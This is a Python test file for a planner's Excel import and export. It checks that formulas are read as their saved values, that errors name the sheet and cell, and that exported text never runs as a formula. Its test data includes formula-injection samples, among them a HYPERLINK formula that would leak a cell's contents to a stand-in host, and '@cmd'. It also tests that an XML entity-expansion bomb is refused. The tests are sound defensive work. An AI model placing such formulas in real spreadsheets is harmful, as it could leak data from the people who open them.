"""Excel workbooks as people make them: formulas read as the values Excel saved, numbers typed as
Excel numbers, several sheets, Excel's apostrophe; every bad row named with its sheet, row,
column and cell; the dry run and the summary as for CSV; what we write never runs as a formula."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from planner import xlsx_io
from planner.model import ActivityType, Market, Rep
from planner.storage import Store

from .corpus.workbooks import QUOTED, header, number, row, sheet, text, workbook
from .test_csv_roundtrip import counts, run, stored

openpyxl = pytest.importorskip("openpyxl")  # a dependency (pyproject.toml); CI installs it
MARKET_HEADER = ("name", "timezone", "country", "hours", "tier", "value", "demo", "call")
ROOT = Path(__file__).parent.parent


def market_row(n: int, *cells: str) -> str:
    base = [text(f"B{n}", "America/New_York"), text(f"C{n}", "US"), text(f"D{n}", "Mon-Fri 09:00-17:00")]
    return row(n, *cells[:1], *base, *cells[1:])


def write(tmp_path: Path, data: bytes, name: str = "book.xlsx") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def test_formulas_are_read_as_the_values_excel_saved(tmp_path, demo):
    """Nothing is worked out here: the saved value is what is imported, even where the formula
    would give something else (its inputs are not even in the file)."""
    book = workbook({"Markets": sheet(header(MARKET_HEADER), market_row(
        2, '<c r="A2" t="str"><f>"New "&amp;"York"</f><v>New York</v></c>', text("E2", "A"),
        '<c r="F2"><f>Z99*1000</f><v>1200000</v></c>', '<c r="G2"><f>1+1</f><v>2</v></c>',
        '<c r="H2"><f>HYPERLINK("http://example.invalid/?leak="&amp;A1,"x")</f><v>3</v></c>'))})
    demo_plan = demo.replace(activities=[ActivityType(n, 30, True) for n in ("Demo", "Call")], markets=(),
                             assignments=())
    db = stored(tmp_path, demo_plan)
    code, out, err = run(db, "import-xlsx", "markets", write(tmp_path, book))
    assert code == 0, err
    assert counts(out) == (1, 0, 0) and "sheet 'Markets'" in out
    market = Store(db).load().market("New York")
    assert (market.value, market.weekly, market.tier) == (1200000, {"Demo": 2, "Call": 3}, "A")


def test_a_formula_whose_saved_value_looks_like_a_formula_is_refused(tmp_path, demo):
    book = workbook({"Reps": sheet(header(), row(2, '<c r="A2" t="str"><f>"="&amp;"1+1"</f><v>=1+1</v></c>',
                                                 text("B2", "UTC"), text("C2", "CH"), text("D2", "Mon-Fri 09:00-17:00")))})
    code, _, err = run(stored(tmp_path, demo), "import-xlsx", "reps", write(tmp_path, book))
    assert code == 2 and "sheet 'Reps', row 2, name (A2): a spreadsheet formula, not a value (got '=1+1')" in err


def test_numbers_typed_as_excel_numbers_read_as_the_numbers_shown(tmp_path, demo):
    """A value column of floats, hours a week and workload counts as 45.0 and 2.0, hours as text,
    a country in lower case: what a sheet filled in by hand holds."""
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "Markets"
    ws.append(["Name", "Timezone", "Country", "Subdivision", "Hours", "Tier", "Value", "Demo"])
    ws.append(["Toronto", "America/Toronto", "ca", "ON", "Mon-Fri 08:30-17:00", "b", 750000.0, 2.0])
    ws.append(["Fraction", "Asia/Tokyo", "JP", None, "Mon-Fri 09:00-17:00", "C", 1234.5678901, None])
    ws.append([2027, "Asia/Tokyo", "JP", None, "Mon-Fri 09:00-17:00", "C", 10, 0])
    reps = book.create_sheet("Reps")
    reps.append(["name", "timezone", "country", "hours", "max_weekly_hours"])
    reps.append(["Ana", "Europe/Zurich", "CH", "Mon-Fri 09:00-17:00", 37.5])
    data = io.BytesIO()
    book.save(data)
    result = xlsx_io.read_markets(data.getvalue(), demo)
    assert result.problems == () and str(result.sheet) == "sheet 'Markets'"
    assert result.items == (
        Market("Toronto", "America/Toronto", "CA", "Mon-Fri 08:30-17:00", "B", 750000, {"Demo": 2}, "ON"),
        Market("Fraction", "Asia/Tokyo", "JP", "Mon-Fri 09:00-17:00", "C", 1234.5678901, {}),
        Market("2027", "Asia/Tokyo", "JP", "Mon-Fri 09:00-17:00", "C", 10, {"Demo": 0}))
    reps = xlsx_io.read_reps(data.getvalue())
    assert str(reps.sheet) == "sheet 'Reps'" and reps.items == (Rep("Ana", "Europe/Zurich", "CH", "Mon-Fri 09:00-17:00", 37.5),)


def test_the_sheet_read_is_the_one_named_like_the_kind_or_the_first_and_the_output_says_which(tmp_path, demo):
    db = stored(tmp_path, demo)
    reps = sheet(header(), row(2, text("A2", "Ana"), text("B2", "UTC"), text("C2", "CH"), text("D2", "Mon-Fri 09:00-17:00")))
    notes = sheet(row(1, text("A1", "Team for March")))
    named = write(tmp_path, workbook({"Notes": notes, "reps": reps}), "named.xlsx")
    code, out, err = run(db, "import-xlsx", "reps", named, "--dry-run")
    assert code == 0 and f"{named}, sheet 'reps': 1 reps would be imported: 1 added" in out, err
    first = write(tmp_path, workbook({"Team": reps, "Notes": notes}), "first.xlsx")
    code, out, err = run(db, "import-xlsx", "reps", first)
    assert code == 0, err
    assert f"from {first}, sheet 'Team' (the first of 2; none is named 'Reps'), into {db}: 1 added" in out
    assert Store(db).load().rep("Ana").timezone == "UTC"


def test_excel_apostrophe_makes_a_formula_like_cell_the_text_it_shows(tmp_path, demo):
    """Typed as '-West or '=Eq in Excel: text cells with the quote prefix, read as -West and =Eq;
    the same text without it is refused, as in a CSV file."""
    rows = [row(n, text(f"A{n}", name, QUOTED), text(f"B{n}", "UTC"), text(f"C{n}", "CH"),
                text(f"D{n}", "Mon-Fri 09:00-17:00")) for n, name in ((2, "-West"), (3, "=Eq"), (4, "'-quoted"))]
    result = xlsx_io.read_reps(workbook({"Reps": sheet(header(), *rows)}, styles=True))
    assert [r.name for r in result.items] == ["-West", "=Eq", "'-quoted"] and not result.problems


def test_every_bad_row_is_named_with_its_sheet_row_column_cell_and_value(tmp_path, demo):
    def rep(n):  # row 5 has a good zone and 400 hours a week; the others a misspelt zone
        return row(n, text(f"A{n}", f"Rep {n}"), text(f"B{n}", "UTC" if n == 5 else "Europe/Zurch"),
                   text(f"C{n}", "CH"), text(f"D{n}", "Mon-Fri 09:00-17:00"), number(f"E{n}", 400 if n == 5 else 40))
    rows = [rep(n) for n in range(2, 11)]
    db = stored(tmp_path, demo)
    before = Store(db).load()
    code, _, err = run(db, "import-xlsx", "reps", write(tmp_path, workbook({"Reps": sheet(header(), *rows)})))
    assert code == 2 and err.count("\n") == 1 and "9 bad row(s), nothing imported" in err
    named = re.findall(r"sheet 'Reps', row (\d+), (\w+) \(([A-Z]+\d+)\): [^;]*\(got '([^']*)'\)", err)
    assert len(named) == 9
    assert ("5", "max_weekly_hours", "E5", "400.0") in named
    assert all(column == "timezone" and cell == f"B{n}" and value == "Europe/Zurch"
               for n, column, cell, value in named if n != "5")
    assert Store(db).load() == before


def test_an_edited_export_says_what_it_adds_and_changes_and_the_dry_run_saves_nothing(tmp_path, demo):
    """Exported, edited in a spreadsheet program (saved again with its shared strings), imported."""
    db = stored(tmp_path, demo)
    path = tmp_path / "markets.xlsx"
    assert run(db, "export-xlsx", "markets", path)[0] == 0
    book = openpyxl.load_workbook(path)
    ws = book["Markets"]
    ws["G2"] = 1
    ws.append(["Nordics", "Europe/Stockholm", "SE", None, "Mon-Fri 08:00-16:30", "B", 300000.0])
    book.save(path)
    before = Store(db).load()
    code, out, err = run(db, "import-xlsx", "markets", path, "--dry-run")
    assert code == 0 and "nothing saved (--dry-run)" in out, err
    assert counts(out) == (1, 1, len(demo.markets) - 1) and Store(db).load() == before
    code, out, err = run(db, "import-xlsx", "markets", path)
    assert code == 0 and counts(out) == (1, 1, len(demo.markets) - 1), err
    after = Store(db).load()
    assert after.market(demo.markets[0].name).value == 1 and after.market("Nordics").value == 300000


def test_an_import_into_a_missing_database_creates_it_holding_only_the_file(tmp_path, demo):
    path = write(tmp_path, xlsx_io.write_reps(demo), "reps.xlsx")
    db = tmp_path / "new.db"
    assert run(db, "import-xlsx", "reps", path, "--dry-run")[0] == 0 and not db.exists()
    code, out, err = run(db, "import-xlsx", "reps", path)
    assert code == 0, err
    assert Store(db).load().reps == demo.reps and Store(db).load().markets == ()


def test_what_we_write_is_never_a_formula_or_an_error_and_numbers_stay_numbers(demo):
    names = ["=HYPERLINK(\"http://evil\")", "+SUM(1)", "@cmd", "-2+3", "#N/A", "#REF!", "123", "'Tis"]
    plan = demo.replace(reps=[Rep(n, "UTC", "CH", "Mon-Fri 09:00-17:00", 37.123456789) for n in names],
                        assignments=())
    ws = openpyxl.load_workbook(io.BytesIO(xlsx_io.write_reps(plan)))["Reps"]  # formulas as written, not values
    cells = [c for r in ws.iter_rows(min_row=2) for c in r if c.value is not None]
    assert {c.data_type for c in cells} == {"s", "n"}
    assert [(c.value, c.quotePrefix) for c in ws["A"][1:]] == [
        (n, n[0] in "=+@-" or n.startswith("'=")) for n in names]
    assert {c.value for c in ws["F"][1:]} == {37.123456789}


def test_an_entity_bomb_is_refused_with_or_without_defusedxml(tmp_path):
    """openpyxl parses with defusedxml when it is installed, else with the standard library, whose
    expat refuses the expansion itself: both must refuse in one line."""
    path = ROOT / "tests" / "corpus" / "xlsx" / "reps-entity-expansion.xlsx"
    for defused in ("True", "False"):
        result = subprocess.run([sys.executable, "-m", "planner.cli", "--db", str(tmp_path / "x.db"), "import-xlsx",
                                 "reps", str(path)], capture_output=True, text=True, timeout=120, cwd=ROOT,
                                env={**os.environ, "OPENPYXL_DEFUSEDXML": defused})
        assert result.returncode == 2 and result.stderr.count("\n") == 1, result.stderr
        assert "cannot be read" in result.stderr and not (tmp_path / "x.db").exists()


# --- docs/excel.md: its commands run on the demo, their output compared with the page's -------------

def doc_files(folder: Path) -> None:
    """The workbooks the guide's session reads, as it describes them."""
    from planner import scenario_file
    from planner.storage import DEMO_PATH

    book = openpyxl.load_workbook(io.BytesIO(xlsx_io.write_markets(scenario_file.load(DEMO_PATH))))
    ws = book["Markets"]
    assert ws["A2"].value == "US West"
    ws["G2"] = 1300000.0
    ws.append(["Nordics", "Europe/Stockholm", "SE", None, "Mon-Fri 08:00-16:30", "B", 300000.0, 2, 3, 6, 1])
    book.save(folder / "markets-edited.xlsx")
    notes = sheet(row(1, text("A1", "New hires, March")))
    team = sheet(header(), row(2, text("A2", "Ana"), text("B2", "Europe/Lisbon"), text("C2", "PT"),
                               text("D2", "Mon-Fri 09:00-17:00"), '<c r="E2"><f>F2*0.9</f></c>'),
                 row(3, text("A3", "Kenji"), text("B3", "Asia/Tokio"), text("C3", "JP"), text("D3", "Mon-Fri 09:00-18:00"),
                     number("E3", 40)))
    (folder / "new-hires.xlsx").write_bytes(workbook({"Notes": notes, "Reps": team}))
    (folder / "reps.xlsx").write_text("name,timezone,country,hours\nAna,Europe/Lisbon,PT,Mon-Fri 09:00-17:00\n")


def test_the_excel_guide_shows_real_commands_and_their_real_output(capsys, tmp_path, monkeypatch):
    from planner.cli import main

    from .guides import console_steps, runs_as_written

    monkeypatch.chdir(tmp_path)
    doc_files(tmp_path)
    steps = console_steps(ROOT / "docs" / "excel.md")
    assert len(steps) >= 8

    def run(argv):
        code = main(argv)
        out, err = capsys.readouterr()
        return code, out + err
    runs_as_written(steps, run)
